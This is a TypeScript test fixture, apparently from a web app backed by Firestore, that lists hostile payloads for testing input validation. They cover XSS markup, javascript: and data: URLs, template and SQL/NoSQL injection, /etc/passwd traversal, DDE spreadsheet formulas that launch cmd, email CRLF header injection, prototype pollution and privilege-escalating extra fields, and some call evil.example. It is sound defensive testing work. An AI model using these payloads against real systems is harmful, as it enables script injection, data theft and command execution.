/**
 * The hostile-input table (docs/architecture.md#security): every payload an attacker might put into
 * a public or admin write. A field payload replaces one field's value; MISSING removes the field;
 * an `extra-field` payload adds its keys to the request body instead of replacing a field.
 */

export const MISSING = Symbol('missing field');

export type PayloadKind =
  | 'markup' // HTML/script-looking text: legitimate as inert text in free-text fields
  | 'template' // template-injection-looking text, same treatment as markup
  | 'url-scheme' // javascript:/data:/vbscript: and friends: never stored as a URL
  | 'huge' // 100 KB strings
  | 'wrong-type' // numbers, booleans, arrays, objects, null where strings belong
  | 'missing-field'
  | 'extra-field' // privileged or unknown keys next to the real fields
  | 'control' // null bytes and other control characters
  | 'bidi' // Unicode direction overrides/isolates
  | 'zero-width' // zero-width characters (legitimate in some scripts: inert text)
  | 'formula' // spreadsheet formula cells (the CSV export neutralises them)
  | 'injection' // SQL/NoSQL-looking strings (inert text for Firestore)
  | 'email'; // hostile email addresses (overlong, CRLF header injection)

export interface HostilePayload {
  name: string;
  kind: PayloadKind;
  /** The field value, MISSING, or for `extra-field` the keys added to the body. */
  value: unknown;
}

const KB100 = 100 * 1024;
const p = (kind: PayloadKind, name: string, value: unknown): HostilePayload => ({
  name,
  kind,
  value,
});

const markup = [
  ['script tag', '<script>window.__hostile=1</script>'],
  ['script tag upper case', '<SCRIPT>window.__hostile=1</SCRIPT>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', '<img src=x onerror="window.__hostile=1">'],
  ['img onerror no quotes', '<img src=x onerror=window.__hostile=1>'],
  ['svg onload', '<svg onload="window.__hostile=1"></svg>'],
  ['svg animate', '<svg><animate onbegin="window.__hostile=1" attributeName=x dur=1s>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>'],
  ['iframe javascript src', '<iframe src="javascript:parent.__hostile=1"></iframe>'],
  ['body onload', '<body onload=window.__hostile=1>'],
  ['details ontoggle', '<details open ontoggle=window.__hostile=1>'],
  ['input autofocus onfocus', '<input autofocus onfocus=window.__hostile=1>'],
  ['anchor javascript href', '<a href="javascript:window.__hostile=1">click</a>'],
  ['closing title break-out', '</title><script>window.__hostile=1</script>'],
  ['attribute break-out', '"><img src=x onerror=window.__hostile=1>'],
  ['single-quote break-out', "'><svg onload=window.__hostile=1>"],
  ['textarea break-out', '</textarea><script>window.__hostile=1</script>'],
  ['style expression', '<div style="background:url(javascript:window.__hostile=1)">x</div>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base href', '<base href="https://evil.example/">'],
  ['html comment', '<!-- <script>window.__hostile=1</script> -->'],
  ['CDATA', '<![CDATA[<script>window.__hostile=1</script>]]>'],
  ['HTML entities', '&lt;script&gt;window.__hostile=1&lt;/script&gt;'],
  ['markdown link', '[click me](javascript:window.__hostile=1)'],
  ['JSON-LD break-out', '</script><script>window.__hostile=1</script>'],
  ['math href', '<math><mi xlink:href="javascript:window.__hostile=1">x</mi></math>'],
] as const;

const templates = [
  ['mustache', '{{7*7}}'],
  ['angular constructor', "{{constructor.constructor('window.__hostile=1')()}}"],
  ['template literal', '${7*7}'],
  ['template literal alert', '${alert(1)}'],
  ['jinja', "{% print('x') %}"],
  ['erb', '<%= 7*7 %>'],
  ['prototype path', '__proto__.polluted'],
] as const;

const urls = [
  ['javascript', 'javascript:alert(1)'],
  ['javascript mixed case', 'JaVaScRiPt:alert(1)'],
  ['javascript leading spaces', '   javascript:alert(1)'],
  ['javascript with tab', 'java\tscript:alert(1)'],
  ['javascript with newline', 'java\nscript:alert(1)'],
  ['javascript leading control char', '\u0001javascript:alert(1)'],
  ['javascript entity encoded', '&#106;avascript:alert(1)'],
  ['javascript hex entity', '&#x6A;avascript:alert(1)'],
  ['javascript percent encoded', '%6Aavascript:alert(1)'],
  ['javascript url comment', 'javascript://%0Aalert(1)'],
  ['data html', 'data:text/html,<script>alert(1)</script>'],
  ['data base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['data svg', 'data:image/svg+xml,<svg onload=alert(1)>'],
  ['data upper case', 'DATA:text/html,x'],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['vbscript upper case', 'VBSCRIPT:msgbox(1)'],
  ['file scheme', 'file:///etc/passwd'],
  ['ftp scheme', 'ftp://evil.example/x'],
  ['blob scheme', 'blob:https://evil.example/1234'],
  ['protocol-relative', '//evil.example/x'],
  ['no host http', 'http://'],
  ['https with credentials', 'https://user:pass@evil.example/'],
  ['https with null byte', 'https://example.com/\u0000x'],
  ['https with bidi override', 'https://example.com/\u202Egnp.exe'],
  ['https with CRLF', 'https://example.com/\r\nSet-Cookie: x=1'],
] as const;

const huge = [
  ['100 KB of a', 'a'.repeat(KB100)],
  ['100 KB of script tags', '<script>x</script>'.repeat(Math.ceil(KB100 / 18))],
  ['100 KB of emoji', '😀'.repeat(KB100 / 2)],
  ['100 KB URL', `https://example.com/${'a'.repeat(KB100)}`],
  ['100 KB email', `${'a'.repeat(KB100)}@example.com`],
] as const;

const wrongTypes: readonly (readonly [string, unknown])[] = [
  ['number', 12345],
  ['zero', 0],
  ['negative float', -1.5],
  ['boolean true', true],
  ['boolean false', false],
  ['null', null],
  ['empty array', []],
  ['array of strings', ['a', 'b']],
  ['empty object', {}],
  ['object with toString', { toString: 'x' }],
  ['nested object', { $gt: '' }],
  ['empty string', ''],
  ['whitespace only', '   \t  '],
];

/** Parsed from JSON so `__proto__` is a real own key, as it is for a request body. */
const protoKey = JSON.parse('{"__proto__":{"status":"approved","admin":true}}') as object;

const extras: readonly (readonly [string, Record<string, unknown>])[] = [
  ['status approved', { status: 'approved' }],
  ['payment_status paid', { payment_status: 'paid' }],
  ['is_featured true', { is_featured: true }],
  ['created_at in the past', { created_at: '2000-01-01T00:00:00Z' }],
  ['updated_at', { updated_at: 1 }],
  ['user_id of someone else', { user_id: 'someone-else' }],
  ['reporter_user_id', { reporter_user_id: 'someone-else' }],
  ['listing_id on a submission', { listing_id: 'hijacked' }],
  ['slug', { slug: 'hijacked-slug' }],
  ['admin flag', { admin: true }],
  ['__proto__', protoKey as Record<string, unknown>],
  ['constructor prototype', { constructor: { prototype: { admin: true } } }],
  ['search_keywords', { search_keywords: ['admin'] }],
  ['id', { id: 'chosen-id' }],
  [
    'target_place with its own coordinates',
    { target_place: { city: 'Austin', state: 'TX', country: 'US', lat: 0, lng: 0 } },
  ],
];

const controls = [
  ['null byte', 'Acme\u0000Tee'],
  ['trailing null byte', 'Acme Tee\u0000'],
  ['bell and backspace', 'Acme\u0007\u0008Tee'],
  ['escape sequence', 'Acme\u001B[31mTee'],
  ['delete char', 'Acme\u007FTee'],
  ['vertical tab', 'Acme\u000BTee'],
] as const;

const bidi = [
  ['right-to-left override', 'Acme \u202Egnp.exe'],
  ['left-to-right override', 'Acme \u202DTee'],
  ['right-to-left embedding', 'Acme \u202BTee'],
  ['pop directional', 'Acme \u202CTee'],
  ['right-to-left isolate', 'Acme \u2067Tee\u2069'],
  ['first strong isolate', 'Acme \u2068Tee\u2069'],
  ['right-to-left mark', 'Acme \u200FTee'],
  ['arabic letter mark', 'Acme \u061CTee'],
] as const;

const zeroWidth = [
  ['zero-width space', 'Ac\u200Bme Tee'],
  ['zero-width joiner', 'Ac\u200Dme Tee'],
  ['zero-width non-joiner', 'Ac\u200Cme Tee'],
  ['byte order mark', '\uFEFFAcme Tee'],
  ['word joiner', 'Ac\u2060me Tee'],
] as const;

const formulas = [
  ['equals formula', '=HYPERLINK("https://evil.example","click")'],
  ['plus formula', '+SUM(1,2)'],
  ['minus formula', "-2+3+cmd|' /C calc'!A0"],
  ['at formula', '@SUM(1,2)'],
  ['DDE', "=cmd|' /C calc'!A0"],
  ['tab-prefixed formula', '\t=1+1'],
] as const;

const injections = [
  ['SQL tautology', "' OR '1'='1"],
  ['SQL drop', "Robert'); DROP TABLE claims;--"],
  ['SQL union', "' UNION SELECT email FROM users --"],
  ['NoSQL operator string', '{"$ne": null}'],
  ['NoSQL where', "'; return true; var x='"],
  ['path traversal', '../../etc/passwd'],
  ['Firestore path', 'swag_listings/other/claims'],
  ['LDAP wildcard', '*)(uid=*))(|(uid=*'],
] as const;

const emails = [
  [
    'email too long (255)',
    `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(59)}.com`,
  ],
  ['email local part 300', `${'a'.repeat(300)}@example.com`],
  ['email CRLF Bcc', 'victim@example.com\r\nBcc: everyone@example.com'],
  ['email LF header', 'victim@example.com\nSubject: hi'],
  ['email encoded CRLF', 'victim@example.com%0d%0aBcc:x@example.com'],
  ['email two addresses', 'a@example.com,b@example.com'],
  ['email display name', 'Evil <evil@example.com>'],
  ['email with script', '<script>alert(1)</script>@example.com'],
  ['email without domain', 'user@'],
  ['email with null byte', 'user\u0000@example.com'],
  ['email with bidi override', 'user\u202E@example.com'],
  ['email javascript', 'javascript:alert(1)//@example.com'],
] as const;

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...markup.map(([n, v]) => p('markup', n, v)),
  ...templates.map(([n, v]) => p('template', n, v)),
  ...urls.map(([n, v]) => p('url-scheme', n, v)),
  ...huge.map(([n, v]) => p('huge', n, v)),
  ...wrongTypes.map(([n, v]) => p('wrong-type', n, v)),
  p('missing-field', 'field missing', MISSING),
  p('missing-field', 'undefined value', undefined),
  ...extras.map(([n, v]) => p('extra-field', `extra ${n}`, v)),
  ...controls.map(([n, v]) => p('control', n, v)),
  ...bidi.map(([n, v]) => p('bidi', n, v)),
  ...zeroWidth.map(([n, v]) => p('zero-width', n, v)),
  ...formulas.map(([n, v]) => p('formula', n, v)),
  ...injections.map(([n, v]) => p('injection', n, v)),
  ...emails.map(([n, v]) => p('email', n, v)),
];

/** Payloads that replace a field's value (everything but extra keys). */
export const FIELD_PAYLOADS = HOSTILE_PAYLOADS.filter((x) => x.kind !== 'extra-field');
export const EXTRA_FIELD_PAYLOADS = HOSTILE_PAYLOADS.filter((x) => x.kind === 'extra-field');
